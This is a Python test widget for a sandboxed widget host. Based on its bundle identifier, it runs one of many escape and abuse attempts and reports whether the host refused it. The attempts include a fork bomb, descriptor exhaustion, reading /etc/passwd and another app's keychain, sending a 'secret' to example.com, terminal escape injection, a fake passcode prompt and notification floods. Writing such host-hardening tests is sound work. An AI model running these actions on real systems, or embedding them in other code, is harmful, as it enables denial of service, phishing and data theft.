#!/usr/bin/python3
"""Attacks the host through what a process may ask and answer, in the way that its bundle's identifier names.

The widget `test.ATTACK.widget` tries ATTACK, a function below, at each update, and shows what came of it. That of
`test.mute.widget` does not even say that it has started.
"""

import ctypes
import os
import socket
import struct
import sys
import time

import today_process as today

libc = ctypes.CDLL(None, use_errno=True)
STEERING = "noise \x1b]0;owned\x07\x1b[2J\r\u202egnp.exe\x9b31m end"
#: What fails with an error of the system.
CLONE_NEWUSER, PTRACE_ATTACH, AF_VSOCK = 0x10000000, 16, 40
SCHED_SETATTR = 314 if os.uname().machine == "x86_64" else 274


class Show(Exception):
    """Answers the update with a content of its own."""

    def __init__(self, content):
        super().__init__()
        self.content = content


def checked(result):
    """The result of a function of C; raises its error."""
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result


def network():
    """Opens a connection by itself."""
    socket.create_connection(("1.1.1.1", 80), timeout=1)


def netlink():
    """Asks the kernel for the machine's network."""
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW)


def vsock():
    """Talks to the hypervisor."""
    socket.socket(AF_VSOCK, socket.SOCK_STREAM)


def trace():
    """Takes over another process."""
    checked(libc.ptrace(PTRACE_ATTACH, 1, None, None))


def mount():
    """Changes the file system that it sees."""
    checked(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))


def namespace():
    """Makes a user of its own, that may do more."""
    checked(libc.unshare(CLONE_NEWUSER))


def sessions():
    """Has children work in sessions of their own, each of which gets as much of a busy processor as the host's."""
    for _ in range(16):
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError as error:
                os._exit(error.errno)
            while True:
                pass
    _, status = os.wait()
    raise OSError(os.waitstatus_to_exitcode(status), "")


def slices():
    """Asks the kernel for the short time slices of the host's threads."""
    attributes = struct.pack("IIQiIQQQ", 48, os.SCHED_OTHER, 0, os.nice(0), 0, 100_000, 0, 0)
    checked(libc.syscall(SCHED_SETATTR, 0, attributes, 0))


def passwords():
    """Reads a file of the machine."""
    open("/etc/passwd").close()


def program():
    """Changes its own program, so that it does something else next time."""
    open(f"{today.info['bundlePath']}/hostile_caller", "a").close()


def descriptors():
    """Opens files until there are no more."""
    while True:
        os.dup(0)


def neighbours():
    """Counts the processes that it sees beyond its own and that of the sandbox."""
    others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) > 1 and int(name) != os.getpid()]
    return len(others)


def defaults():
    """Reads what another app has written."""
    today.get("group.test.fresh", "word")


def fetch():
    """Has the host send something to a server that the bundle does not declare."""
    today.call("http/fetch", url="https://example.com/?secret")


def address():
    """Leads the person's pages to another server, with something in the address."""
    today.call("open", url="https://example.com/?secret")


def keychain():
    """Reads a secret of another app."""
    today.call("keychain/get", accessGroup="group.test.fresh", service="s", account="a")


def notify():
    """Fills one second with notifications."""
    accepted = 0
    for number in range(300):
        request = {"identifier": str(number), "content": {"title": "Flood"}, "trigger": {"after": 3600.0}}
        try:
            today.call("notifications/add", request=request)
            accepted += 1
        except today.HostError:
            pass
    return accepted


def actions():
    """Fills the queue of what its app is to do; goes on with it when it runs again."""
    for _ in range(1000):
        new = [{"id": f"{time.time_ns()}-{number}", "payload": {"text": "x" * 100}} for number in range(100)]
        today.call("actions/enqueue", group="group.test.attack", actions=new)


def values():
    """Fills the shared defaults of its group."""
    for number in range(1000):
        today.put("group.test.attack", str(number), "x" * 200_000)


def terminal():
    """Writes what would steer the operator's terminal."""
    sys.stderr.write(STEERING + "\n")
    sys.stderr.flush()
    today.log("notice", STEERING)


def depth():
    """Shows a card that is nested deeper than any."""
    element = {"type": "TextBlock", "text": "deep"}
    for _ in range(60):
        element = {"type": "Container", "items": [element]}
    raise Show({"compact": {"type": "AdaptiveCard", "version": "1.5", "body": [element]}})


def surrogate():
    """Shows a text that is none."""
    raise Show({"compact": today.text("\ud800")})


def inputs():
    """Asks for something on the screen, where nobody expects it."""
    card = today.text("Your passcode?")
    card["body"].append({"type": "Input.Text", "id": "passcode"})
    raise Show({"compact": card})


def line():
    """Sends a line that does not end."""
    sys.stdout.buffer.write(b"x" * (4 << 20))
    sys.stdout.buffer.flush()


def garbage():
    """Answers with what is no message."""
    sys.stdout.buffer.write(b"{]\n" * 1000)
    sys.stdout.buffer.flush()
    os._exit(0)


def requests():
    """Asks the same question without end, and reads no answer."""
    group = today.info["groups"][0]["id"].encode()
    question = b'{"jsonrpc":"2.0","id":1,"method":"defaults/all","params":{"group":"%s"}}\n' % group
    while True:
        sys.stdout.buffer.write(question * 1000)
        sys.stdout.buffer.flush()


def crash():
    """Ends at once, whenever it is started."""
    os._exit(9)


def stall():
    """Does not answer."""
    time.sleep(3600)


def spin():
    """Computes without end."""
    while True:
        pass


def bomb():
    """Starts processes that start processes."""
    while True:
        os.fork()


def initialize(parameters):
    if today.info["id"] == "test.mute.widget":
        stall()


def update(parameters):
    attack = globals()[today.info["id"].split(".")[1].partition("-")[0]]
    try:
        result = f"worked {attack() or ''}".strip()
    except Show as show:
        return {"content": show.content}
    except OSError as error:
        result = type(error).__name__ if error.errno is None else os.strerror(error.errno)
    except today.HostError as error:
        result = f"refused: {error}"
    return {"content": {"compact": today.text(result)}}


today.run({"initialize": initialize, "widget/update": update})
